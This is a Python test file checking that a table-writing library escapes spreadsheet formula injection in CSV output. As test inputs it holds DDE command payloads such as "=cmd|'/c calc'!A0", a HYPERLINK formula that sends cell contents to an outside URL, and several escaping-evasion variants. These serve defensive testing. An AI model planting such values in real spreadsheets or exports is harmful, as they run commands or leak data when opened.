import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ambilearn.tables import write_table
from ambilearn.tables.formulas import escape_formula

SIGNS = "=+-@\t\r\n＝＋－＠"


def read_back(cell):
    """As the guide says."""
    return cell.removeprefix("'")


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|'/c calc'!A0",
        "+cmd|'/c calc'!A0",
        "-2+3+cmd|'/c calc'!A0",
        "@SUM(1+1)*cmd|'/c calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\x00=1+1",
        "\ufeff=1+1",
        "\u3000＝1＋1",
        '=HYPERLINK("http://example.org?x="&A1, "click")',
        "-1,5+2",
        "-inf",
        "-",
        "+49 30 1234",
        "-٣",
    ],
)
def test_what_a_spreadsheet_would_run_is_text(cell):
    assert escape_formula(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["-1", "+1", "-1.5", "-.5", "-5.", "+1e-9", "-2E+10", "-007"])
def test_numbers_stay_numbers(cell):
    assert escape_formula(cell) == cell


@pytest.mark.parametrize("cell", ["anna", "", "a=b", "1-2", "x@y", "é", 3, -1.5, None, True, ["="]])
def test_other_cells_stay_as_they_are(cell):
    assert escape_formula(cell) is cell


@given(st.text(st.sampled_from(f"{SIGNS}'a1. \0\ufeff") | st.characters()))
def test_nothing_begins_like_a_formula_and_nothing_is_lost(text):
    escaped = escape_formula(text)
    assert read_back(escaped) == text
    if escaped[:1] in tuple(SIGNS):
        float(escaped)  # a number, which runs nothing


def test_headings_lists_and_every_kind_of_text():
    frame = pd.DataFrame(
        {
            "=heading": ["=a", "b"],
            "category": pd.Categorical(["=a", "b"]),
            "list": [["=a", "b"], ["b"]],
            "number": [-1.5, 2.0],
            "mixed": pd.Series([-1, "=a"], dtype=object),
            "arrow": pd.Series(["=a", None], dtype="string[pyarrow]"),
        }
    )
    before = frame.copy(deep=True)
    file = io.BytesIO()
    write_table(frame, file, format="csv", escape_formulas=True)
    assert file.getvalue().decode().splitlines() == [
        "'=heading,category,list,number,mixed,arrow",
        "'=a,'=a,'=a|b,-1.5,-1,'=a",
        "b,b,b,2.0,'=a,",
    ]
    pd.testing.assert_frame_equal(frame, before)


def test_nothing_is_escaped_unless_asked_for():
    file = io.BytesIO()
    write_table(pd.DataFrame({"=h": ["=a"], "x": ["-b"]}), file, format="csv")
    assert file.getvalue() == b"=h,x\n=a,-b\n"


def test_formats_with_types_need_no_escape():
    file = io.BytesIO()
    write_table(pd.DataFrame({"h": ["=a"]}), file, format="jsonl", escape_formulas=True)
    assert file.getvalue() == b'{"h": "=a"}\n'
